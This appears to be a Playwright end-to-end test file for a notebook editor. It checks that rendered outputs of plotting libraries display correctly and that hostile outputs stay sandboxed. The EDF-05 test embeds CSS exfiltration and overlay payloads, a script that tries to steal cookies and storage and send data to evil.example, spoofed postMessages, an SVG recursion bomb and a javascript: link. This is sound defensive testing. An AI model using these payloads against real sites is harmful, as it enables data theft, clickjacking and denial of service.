import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'vitest';
import type { Frame, Page } from 'playwright-core';
import { root } from '#test/harness/machine';
import {
  cell,
  code,
  display,
  eventually,
  expectNoBarriersIn,
  markdown,
  messages,
  openNotebook,
  outputs,
  startNotebook,
} from './editorHarness';
import { journey, screenshot } from './harness';

/** Outputs that pandas, Plotly, Altair, Folium, IPython, scikit-learn and matplotlib of Debian 12 wrote into a notebook. */
const recorded = JSON.parse(
  readFileSync(path.join(root, 'test/e2e/recorded/outputs.json'), 'utf8'),
) as Record<string, Record<string, unknown>>;
const of = (name: string) => code(name, '', [display(recorded[name] ?? {})]);

/** As Bokeh writes it: one output brings the library, each plot embeds itself with it. */
const BOKEH = [
  code('load', '', [
    display({
      'application/vnd.bokehjs_load.v0+json': '',
      'application/javascript':
        'const s = document.createElement("script"); s.src = "https://cdn.bokeh.org/bokeh.min.js"; document.head.append(s);',
    }),
  ]),
  code('bokeh', '', [
    display({
      'application/vnd.bokehjs_exec.v0+json': '',
      'text/html': '\n<div id="p1001" data-root-id="p1001" style="display: contents;"></div>\n',
      'application/javascript':
        '(function again() { if (window.Bokeh) window.Bokeh.embed.embed_items_notebook({}, [{ roots: { p1001: "p1001" } }]); else setTimeout(again, 10); })()',
    }),
  ]),
];
const BOKEH_LIBRARY =
  'window.Bokeh = { embed: { embed_items_notebook(docs, [item]) { document.getElementById(item.roots.p1001).textContent = "a plot"; } } };';

/** The web of these tests: what is named here, and nothing else. Answers what was asked for. */
const serveWeb = async (
  page: Page,
  pages: Readonly<Record<string, { contentType: string; body: string }>>,
) => {
  const asked: string[] = [];
  await page.route(/^https:/, (route) => {
    const url = route.request().url();
    asked.push(url);
    const found = Object.entries(pages).find(([start]) => url.startsWith(start))?.[1];
    return found
      ? route.fulfill({ ...found, headers: { 'access-control-allow-origin': '*' } })
      : route.abort();
  });
  return asked;
};

/** The page in the frame of an output, once it is near. */
const inside = async (frame: Frame, id: string) => {
  await cell(frame, id).scrollIntoViewIfNeeded();
  return outputs(frame, id).locator('iframe').contentFrame();
};

journey(
  'EDF-01 outputs of the usual libraries show as in Jupyter: styles, drawings, plots, sound, pages, and what is missing is told',
  async ({ page, expected }) => {
    // Outputs whose libraries do not come fail each in its own words.
    expected.push(
      /Failed to load resource|ERR_FAILED|net::/,
      /^Error loading script: Script error for "vega-embed"/,
      /L is not defined/,
    );
    await serveWeb(page, {
      'https://www.youtube.com/embed/': {
        contentType: 'text/html',
        body: '<!doctype html><title>Player</title><p>A player at <script>document.write(location.origin)</script>',
      },
      'https://cdn.bokeh.org/': { contentType: 'text/javascript', body: BOKEH_LIBRARY },
    });
    const asHtml = code('asHtml', '', [
      display({ 'text/html': recorded['plotly']?.['text/html'] }),
    ]);
    const frame = await openNotebook(
      page,
      await startNotebook([
        of('styler'),
        code('other', '', [
          display({
            'text/html':
              '<style>td { background: red }</style><table><tr><td>red</td></tr></table>',
          }),
        ]),
        of('sklearn'),
        of('svg'),
        of('audio'),
        of('javascript'),
        of('plotly'),
        asHtml,
        ...BOKEH,
        of('youtube'),
        of('altair'),
        of('folium'),
        markdown('attached', '![a dot](attachment:a%20dot.png)', {
          attachments: {
            'a dot.png': {
              'image/png':
                'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
            },
          },
        }),
      ]),
    );
    const ground = (id: string, selector: string) =>
      outputs(frame, id)
        .locator(selector)
        .first()
        .evaluate((element) => getComputedStyle(element).backgroundColor);
    expect([await ground('styler', 'td'), await ground('other', 'td')]).toEqual([
      'rgb(255, 215, 0)',
      'rgb(255, 0, 0)',
    ]);
    expect(await outputs(frame, 'sklearn').locator('.sk-text-repr-fallback').isVisible()).toBe(
      false,
    );
    const parameters = outputs(frame, 'sklearn').locator('.sk-toggleable__content').first();
    const height = () => parameters.evaluate((element) => element.getBoundingClientRect().height);
    const folded = await height();
    await outputs(frame, 'sklearn').locator('label').first().click();
    await eventually(height).toBeGreaterThan(folded);
    expect(await outputs(frame, 'svg').locator('use').count()).toBeGreaterThan(10);
    await eventually(() =>
      outputs(frame, 'audio')
        .locator('audio')
        .evaluate((audio) => (audio as HTMLAudioElement).duration),
    ).toBe(0.5);
    await (await inside(frame, 'javascript')).getByText('magic').waitFor();
    for (const id of ['plotly', 'asHtml'])
      await (await inside(frame, id)).locator('.scatterlayer path.js-line').waitFor();
    await (await inside(frame, 'bokeh')).getByText('a plot').waitFor();
    await (
      await inside(frame, 'youtube')
    )
      .getByText('A player at https://www.youtube.com')
      .waitFor();
    expect(await outputs(frame, 'youtube').getByRole('link').innerText()).toBe(
      'https://www.youtube.com/embed/abc123',
    );
    for (const [id, library] of [
      ['altair', 'vega-embed'],
      ['folium', 'leaflet'],
    ] as const) {
      await inside(frame, id);
      await outputs(frame, id)
        .getByText('This output needs what could not be loaded:')
        .getByRole('link', { name: library })
        .first()
        .waitFor();
    }
    const shown = cell(frame, 'attached').locator('img');
    await shown.scrollIntoViewIfNeeded();
    await eventually(() =>
      shown.evaluate((image) => (image as HTMLImageElement).naturalWidth),
    ).toBe(1);
    await expectNoBarriersIn(frame, ['[data-id="styler"] .styled', '[data-id="other"] .styled']);
    await screenshot(page, 'editor outputs');
  },
  120_000,
);

const EVIL = 'https://evil.example/';
const COVER = `<style>@import url(${EVIL}import.css); @font-face { font-family: e; src: url(${EVIL}font.woff) }
:host { position: fixed !important; inset: 0; z-index: 2147483647; background: red !important } :root { position: fixed !important; --kept: 1px }
header, .bar, body, html, .notebook, ::slotted(*) { display: none !important }
.cover { position: fixed; inset: -9999px; z-index: 2147483647; background: red url(${EVIL}background.png); font-family: e; cursor: url(${EVIL}cursor.png), auto }
.bent { --way: u\\72l(${EVIL}variable.png); background: var(--way); background-image: image-set("${EVIL}set.png" 1x) }
input[value^="s"] { background: url('${EVIL}leak?s') } @media all { p { list-style: url(${EVIL}media.png); content: url(${EVIL}content.png) } }
@keyframes k { to { background: url(${EVIL}frame.png) } } p { animation: k 1ms; & b { background: url(${EVIL}nested.png) } }</style>
<div class="cover" style="position:fixed;background:url(${EVIL}inline.png)">cover</div><p class="bent"><b>bent</b><input type="checkbox" value="secret"><input type="password" id="password"></p>
<video poster="${EVIL}poster.png"></video><img srcset="${EVIL}srcset.png 1x"><svg><image href="${EVIL}image.png"/><use href="${EVIL}use.svg#a"/></svg>`;

/** Everything a script can try from an output to get out of it; it writes down how far it got. */
const BREAK_OUT = `<p id="loot"></p><script>
const got = [], base = location.href.replace(/render.html.*/, ''), app = document.referrer || 'none';
const attempt = async (name, work) => { try { const value = await work(); if (value) got.push(name + '=' + value); } catch {} };
(async () => {
  await attempt('window', () => window.open('${EVIL}popup') && 'opened');
  await attempt('top', () => { top.location = '${EVIL}top'; });
  await attempt('parent', () => parent.document.title || 'read');
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length + 1);
  // A page of the web may read itself.
  if (location.protocol === 'http:') await attempt('document', () => fetch(base + 'document', { credentials: 'include' }).then((answer) => answer.text()));
  await attempt('blind', () => fetch(base + 'document', { method: 'PUT', mode: 'no-cors', credentials: 'include', body: '{}' }).then((answer) => answer.type));
  await attempt('channel', () => new Promise((resolve) => { const line = new WebSocket(base.replace('http', 'ws') + 'channel'); line.onopen = () => resolve('open'); line.onerror = () => resolve(''); }));
  await attempt('referrer', () => document.referrer);
  const form = Object.assign(document.createElement('form'), { action: '${EVIL}form', target: '_top' }); document.body.append(form);
  await attempt('form', () => { form.submit(); });
  const link = Object.assign(document.createElement('a'), { href: '${EVIL}link', target: '_top', textContent: 'link' }); document.body.append(link); link.click();
  const frame = Object.assign(document.createElement('iframe'), { src: base + 'edit' }); document.body.append(frame);
  await new Promise((resolve) => { frame.onload = resolve; });
  if (location.protocol === 'http:') await attempt('editor', () => frame.contentDocument && frame.contentDocument.title);
  for (const target of [parent, top]) for (const type of ['link', 'splash-ready', 'unsaved', 'render-link', 'theme', 'render'])
    target.postMessage({ type, href: '${EVIL}said', location: base + 'edit', unsaved: true, theme: 'dark', html: 'x' }, '*');
  for (let index = 0; index < 50; index += 1) parent.postMessage({ type: 'render-height', height: 1e12 * index }, '*');
  document.getElementById('loot').textContent = 'got: ' + got.join(' ');
})();
</script>`;

/** For the browser every question of the driver is a person's gesture. None counts in a page until the test says that a person is there. */
const nobodyThere = () => {
  const real = navigator.userActivation;
  Object.defineProperty(navigator, 'userActivation', {
    value: {
      get isActive() {
        return 'somebody' in window && real.isActive;
      },
    },
  });
};

journey(
  'EDF-05 no output gets out of its box: styles, scripts, pages of the web, messages and links that nobody clicked',
  async ({ page, expected }) => {
    expected.push(/./);
    await page.addInitScript(nobodyThere);
    const asked = await serveWeb(page, {
      'https://player.example/': {
        contentType: 'text/html',
        body: `<!doctype html><title>Player</title><p>tries</p>${BREAK_OUT}`,
      },
    });
    const host = await startNotebook([
      code('styles', '', [display({ 'text/html': COVER })]),
      code('drawing', '', [
        display({
          'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>${COVER.replace(/<\/?style>|<div[^]*/g, '')}</style><defs><g id="a">${'<use href="#b"/>'.repeat(50)}</g><g id="b">${'<use href="#a"/>'.repeat(50)}</g></defs><use href="#a"/><rect id="x" width="9" height="9"/></svg>`,
        }),
      ]),
      code('scripts', '', [display({ 'text/html': BREAK_OUT })]),
      code('player', '', [
        display({
          'text/html': '<iframe src="https://player.example/a" width="300" height="200"></iframe>',
        }),
      ]),
      code('click', '', [
        display({
          'text/html':
            '<a href="https://clicked.example/">clicked</a><a href="javascript:parent.PWNED=1">bad</a><script>1</script>',
        }),
      ]),
    ]);
    const frame = await openNotebook(page, host);
    const address = frame.url();
    const [title, box] = [frame.locator('header .kernel'), outputs(frame, 'styles')];
    expect(
      await title.evaluate((element) => {
        const { x, y, width, height } = element.getBoundingClientRect();
        return element.contains(document.elementFromPoint(x + width / 2, y + height / 2));
      }),
    ).toBe(true);
    const [cover, around] = [
      await box.locator('.cover').evaluate((element) => getComputedStyle(element).backgroundImage),
      await box.boundingBox(),
    ];
    expect([cover, around === null || around.height < 1_000]).toEqual(['none', true]);
    expect(
      await box
        .locator('input')
        .evaluateAll((fields) => fields.map((field) => (field as HTMLInputElement).type)),
    ).toEqual(['checkbox']);
    // Copies of copies are gone; what is left of them copies nothing.
    expect(await outputs(frame, 'drawing').locator('use[href="#b"]').count()).toBe(0);
    for (const id of ['scripts', 'player']) {
      const loot = (await inside(frame, id)).locator('#loot');
      await eventually(() => loot.innerText()).toMatch(
        id === 'scripts' ? /^got:$/ : /^got: (?:storage=1|referrer=\S+| )*$/,
      );
    }
    await eventually(() =>
      outputs(frame, 'scripts')
        .locator('iframe')
        .evaluate((element) => element.getBoundingClientRect().height),
    ).toBeLessThanOrEqual(4_000);
    const heard = await messages(page);
    expect(
      heard.filter(
        ({ type, origin }) =>
          origin === new URL(address).origin &&
          !['splash-ready', 'unsaved', 'scrolled', 'listening'].includes(type),
      ),
    ).toEqual([]);
    await frame.evaluate(() => Object.assign(window, { somebody: true }));
    await (await inside(frame, 'click')).getByText('clicked').click();
    await (await inside(frame, 'click')).getByText('bad').click();
    await eventually(async () =>
      (await messages(page))
        .filter(({ type, origin }) => type === 'link' && origin === new URL(address).origin)
        .map((message) => (message.type === 'link' ? message.href : '')),
    ).toEqual(['https://clicked.example/', 'javascript:parent.PWNED=1']);
    expect(asked.filter((url) => url.startsWith(EVIL))).toEqual([]);
    expect([
      frame.url(),
      page.context().pages().length,
      new URL(page.url()).hostname,
      await title.isVisible(),
    ]).toEqual([address, 1, 'localhost', true]);
    expect(
      await frame.evaluate(() => document.documentElement.dataset['theme'] ?? null),
    ).toBeNull();
  },
  120_000,
);
